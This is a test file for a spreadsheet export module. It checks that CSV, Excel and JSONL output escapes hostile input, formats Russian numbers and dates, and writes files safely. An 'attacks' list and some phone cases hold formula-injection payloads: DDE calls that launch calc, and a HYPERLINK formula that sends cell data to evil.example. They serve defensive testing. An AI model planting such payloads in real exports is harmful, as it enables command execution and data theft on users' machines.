import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { readSheet, type Row as SheetRow } from 'read-excel-file/node';
import { describe, expect, it, onTestFinished } from 'vitest';
import { writeExport } from '../../src/export/file.ts';
import { type Format, render } from '../../src/export/format.ts';
import type { Cell, Column, ColumnType, Row, Style, Table } from '../../src/export/table.ts';
import { renderXlsx } from '../../src/export/xlsx.ts';
import { formatDateTime } from '../../src/resolvers/account-time.ts';
import fc from '../property.ts';

const style: Style = {
  title: 'Сделки',
  language: 'ru',
  country: 'RU',
  toDateTime: (seconds) => formatDateTime(seconds, 'Europe/Moscow'),
};

/** A table of one column, whose key is its type. */
function tableOf(type: ColumnType, cells: readonly Cell[]): Table {
  return toTable([{ key: type, title: type, type }], [cells.map((cell) => [cell])]);
}

function toTable(columns: Column[], steps: readonly (readonly Row[])[]): Table {
  return {
    columns,
    steps: (async function* () {
      yield* steps;
    })(),
  };
}

async function renderText(table: Table, format: Format, more: Partial<Style> = {}): Promise<string> {
  let text = '';
  for await (const chunk of render(table, format, { ...style, ...more })) text += chunk;
  return text;
}

/** The records of a CSV file, as an independent parser reads them, without the header. */
async function readCsv(table: Table, more: Partial<Style> = {}): Promise<string[][]> {
  const text = await renderText(table, 'CSV', more);
  return (parse(text, { bom: true, delimiter: more.separator ?? ';' }) as string[][]).slice(1);
}

async function readXlsx(table: Table, sheet = 1): Promise<SheetRow[]> {
  const folder = await mkdtemp(join(tmpdir(), 'export-'));
  onTestFinished(() => rm(folder, { recursive: true }));
  const path = join(folder, `${randomUUID()}.xlsx`);
  await writeExport(path, render(table, 'XLSX', style), 1e8);
  return (await readSheet(path, sheet, { trim: false })).slice(1);
}

/** What attackers write into a form: each is run if a spreadsheet takes it for a formula. */
const attacks = [
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example/?"&A1;"Оплатить")',
  '+1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
];

const oddTexts = [
  'ООО «Ромашка»; опт, розница',
  'с "кавычками" внутри',
  'первая строка\nвторая\r\nтретья',
  'таб\tвнутри',
  'эмодзи 🙂👩‍💻 и ё',
  ' пробелы по краям ',
  '_x000D_',
];

describe('a CSV file', () => {
  it('gives every text back to an independent parser, whatever separates the values', async () => {
    for (const separator of [';', ',', '\t'] as const) {
      expect(await readCsv(tableOf('text', oddTexts), { separator })).toEqual(oddTexts.map((text) => [text]));
    }
  });

  it('marks every text that a spreadsheet would run as a formula', async () => {
    const rows = await readCsv(tableOf('text', attacks));
    expect(rows.flat()).toEqual(attacks.map((text) => `'${text}`));
    expect(await renderText(tableOf('text', ['a;=1+1', 'a,=1+1']), 'CSV', { separator: '\t' })).toContain(
      '"a;=1+1"\r\n"a,=1+1"\r\n',
    );
  });

  it('marks titles of columns as well, because custom fields name them', async () => {
    const table = toTable([{ key: 'field', title: '=1+1', type: 'text' }], []);
    expect(await renderText(table, 'CSV')).toBe("\ufeff'=1+1\r\n");
  });

  it('begins no cell of any text as a formula', async () => {
    const cell = fc.string({ unit: 'binary', maxLength: 12 });
    await fc.assert(
      fc.asyncProperty(fc.array(cell, { minLength: 1, maxLength: 5 }), async (texts) => {
        const rows = await readCsv(tableOf('text', texts));
        expect(rows.flat().filter((text) => /^[=+\-@\t\r\n]/.test(text))).toEqual([]);
        expect(rows.flat().map((text, index) => (text === texts[index] ? text : text.slice(1)))).toEqual(texts);
      }),
      { numRuns: 200 },
    );
  });

  it('keeps phones readable texts that are neither numbers nor formulas', async () => {
    const phones = [
      '+79031234567',
      '+7-903-123-45-67',
      '89031234567',
      '8 (495) 123-45-67',
      '+48512345678',
      '00012',
      'позвонить: 123',
    ];
    expect((await readCsv(tableOf('phone', phones))).flat()).toEqual([
      '+7 903 123 45 67',
      '+7 903 123 45 67',
      '+7 903 123 45 67',
      '+7 495 123 45 67',
      '+48 512 345-678',
      "'00012",
      'позвонить: 123',
    ]);
    const cell = [['+79031234567', '+74951234567']];
    expect(await readCsv(tableOf('phone', cell))).toEqual([['+7 903 123 45 67, +7 495 123 45 67']]);
  });

  it('marks a phone that is a formula in disguise', async () => {
    const phones = ['+1+cmd|"/C calc"!A0', '-7903', '=79031234567', '+7 903'];
    expect((await readCsv(tableOf('phone', phones))).flat()).toEqual([
      '\'+1+cmd|"/C calc"!A0',
      "'-7903",
      "'=79031234567",
      "'+7 903",
    ]);
  });

  it('keeps digits that a spreadsheet would drop', async () => {
    const texts = ['0274123456', '40702810900000001234', '7707083893'];
    expect((await readCsv(tableOf('text', texts))).flat()).toEqual([
      "'0274123456",
      "'40702810900000001234",
      '7707083893',
    ]);
  });

  it('writes numbers with a comma between semicolons, and with a point otherwise', async () => {
    const money = [-12_345_600, 5_000, 0, 90_071_992_547_409_930_000n];
    expect((await readCsv(tableOf('money', money))).flat()).toEqual(['-1234,56', '0,5', '0', '9007199254740993']);
    expect((await readCsv(tableOf('money', money), { separator: ',' })).flat().slice(0, 2)).toEqual([
      '-1234.56',
      '0.5',
    ]);
    expect((await readCsv(tableOf('number', [0.25, -3]))).flat()).toEqual(['0,25', '-3']);
  });

  it('writes times in the account’s time zone, days, and booleans in its language', async () => {
    expect(await readCsv(tableOf('date-time', [Date.UTC(2026, 10, 5, 21, 30) / 1000]))).toEqual([
      ['2026-11-06 00:30:00'],
    ]);
    expect(await readCsv(tableOf('date', ['2026-11-05', null]))).toEqual([['2026-11-05'], ['']]);
    expect((await readCsv(tableOf('boolean', [true, false, 1, 0]))).flat()).toEqual(['да', 'нет', 'да', 'нет']);
    expect((await readCsv(tableOf('boolean', [true]), { language: 'en' })).flat()).toEqual(['yes']);
  });

  it('begins with a byte order mark between semicolons, unless told otherwise', async () => {
    const begin = async (more: Partial<Style>) => (await renderText(tableOf('text', []), 'CSV', more)).charCodeAt(0);
    expect(await begin({})).toBe(0xfeff);
    expect(await begin({ byteOrderMark: false })).toBe('t'.charCodeAt(0));
    expect(await begin({ separator: ',' })).toBe('t'.charCodeAt(0));
    expect(await begin({ separator: ',', byteOrderMark: true })).toBe(0xfeff);
  });
});

describe('an Excel file', () => {
  it('gives every text back to an independent parser, and none is a formula', async () => {
    const texts = [...oddTexts, ...attacks];
    // XML readers convert a carriage return to a line feed.
    const read = (text: unknown) => String(text).replace(/\r\n?/g, '\n');
    const rows = await readXlsx(tableOf('text', texts));
    expect(rows.map(([text]) => read(text).replace('_x005F_', '_'))).toEqual(texts.map(read));
  });

  it('keeps phones and long ids texts, and short ids numbers', async () => {
    const phones = ['+79031234567', '00012', '89031234567'];
    expect((await readXlsx(tableOf('phone', phones))).flat()).toEqual(phones);
    const ids = [28_310_001, '123456789012345', '1234567890123456', '01hxyz', '0042'];
    expect((await readXlsx(tableOf('id', ids))).flat()).toEqual([
      28_310_001,
      123_456_789_012_345,
      '1234567890123456',
      '01hxyz',
      '0042',
    ]);
  });

  it('has typed numbers, dates and booleans', async () => {
    expect((await readXlsx(tableOf('money', [-12_345_600, 5_000]))).flat()).toEqual([-1234.56, 0.5]);
    expect((await readXlsx(tableOf('boolean', [true, 0]))).flat()).toEqual([true, false]);
    expect((await readXlsx(tableOf('date', ['2026-11-05', '1812-09-07']))).flat()).toEqual([
      new Date('2026-11-05T00:00:00Z'),
      '1812-09-07',
    ]);
    const evening = Date.UTC(2026, 10, 5, 21, 30) / 1000;
    const [[shown] = []] = await readXlsx(tableOf('date-time', [evening]));
    // The reader's arithmetic loses a millisecond.
    expect(Math.round(Number(shown) / 1000)).toBe(Date.UTC(2026, 10, 6, 0, 30) / 1000);
  });

  it('cuts a text that is longer than a cell, and replaces what XML forbids', async () => {
    const [[long] = [], [odd] = []] = await readXlsx(tableOf('text', ['я'.repeat(40_000), 'a\u0000b\ud800c']));
    expect(String(long)).toHaveLength(32_767);
    expect(String(long).endsWith('я…')).toBe(true);
    expect(odd).toBe('a\ufffdb\ufffdc');
  });

  it('continues on a further sheet, with the header again', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'export-'));
    onTestFinished(() => rm(folder, { recursive: true }));
    const path = join(folder, 'file.xlsx');
    await writeExport(path, renderXlsx(tableOf('integer', [1, 2, 3, 4, 5]), style, 3), 1e6);
    const sheets = await Promise.all([1, 2, 3].map((sheet) => readSheet(path, sheet)));
    expect(sheets.map((rows) => rows.flat())).toEqual([
      ['integer', 1, 2],
      ['integer', 3, 4],
      ['integer', 5],
    ]);
  });
});

describe('a JSONL file', () => {
  it('has one object a line, typed, with nulls for missing values', async () => {
    const columns: Column[] = [
      { key: 'id', title: 'ID', type: 'id' },
      { key: 'name', title: 'Название', type: 'text' },
      { key: 'price', title: 'Бюджет', type: 'money' },
      { key: 'created_at', title: 'Создана', type: 'date-time' },
      { key: 'phones', title: 'Телефоны', type: 'phone' },
    ];
    const at = Date.UTC(2026, 10, 5, 9) / 1000;
    const steps = [[[1, '=1+1\nдва', 15_000, at, ['+7903', '8495']]], [[2, null, null, null, null]]];
    const lines = (await renderText(toTable(columns, steps), 'JSONL')).split('\n');
    expect(lines.map((line) => line && JSON.parse(line))).toEqual([
      { id: '1', name: '=1+1\nдва', price: 1.5, created_at: '2026-11-05T12:00:00+03:00', phones: ['+7903', '8495'] },
      { id: '2', name: null, price: null, created_at: null, phones: null },
      '',
    ]);
  });
});

describe('a file on the disk', () => {
  async function openFolder() {
    const folder = await mkdtemp(join(tmpdir(), 'export-'));
    onTestFinished(() => rm(folder, { recursive: true }));
    return folder;
  }

  it('can be read by its owner only', async () => {
    const path = join(await openFolder(), 'file.csv');
    await writeExport(path, render(tableOf('text', ['a']), 'CSV', style), 1e6);
    expect((await stat(path)).mode & 0o777).toBe(0o600);
  });

  it('is removed if it cannot be completed', async () => {
    const path = join(await openFolder(), 'file.csv');
    const chunks = async function* () {
      yield 'a\n';
      throw Object.assign(new Error('no space left on device'), { code: 'ENOSPC' });
    };
    await expect(writeExport(path, chunks(), 1e6)).rejects.toMatchObject({ code: 'STORAGE_FAILED' });
    await expect(readFile(path)).rejects.toMatchObject({ code: 'ENOENT' });
    await expect(writeExport(path, render(tableOf('text', ['abcdef']), 'CSV', style), 10)).rejects.toMatchObject({
      code: 'VALIDATION_FAILED',
    });
    await expect(readFile(path)).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('never replaces another file', async () => {
    const path = join(await openFolder(), 'file.csv');
    await writeFile(path, 'mine');
    await expect(writeExport(path, render(tableOf('text', ['a']), 'CSV', style), 1e6)).rejects.toThrow('EEXIST');
    expect(await readFile(path, 'utf8')).toBe('mine');
  });

  it('is written step by step: the next rows are read when the last are on their way', async () => {
    for (const format of ['CSV', 'XLSX', 'JSONL'] as const) {
      let asked = 0;
      let furthest = 0;
      const steps = (async function* () {
        for (; asked < 100; asked += 1)
          yield Array.from({ length: 1_000 }, (_, index) => [`${asked} ${randomUUID()} ${index}`]);
      })();
      let written = 0;
      for await (const _ of render({ columns: [{ key: 'a', title: 'a', type: 'text' }], steps }, format, style)) {
        // Slower than the rows: a writer that did not wait would have read all of them.
        await new Promise((resolve) => setImmediate(resolve));
        written += 1;
        if (written === 10) furthest = asked;
      }
      expect([format, asked]).toEqual([format, 100]);
      expect(furthest).toBeLessThan(30);
    }
  });
});
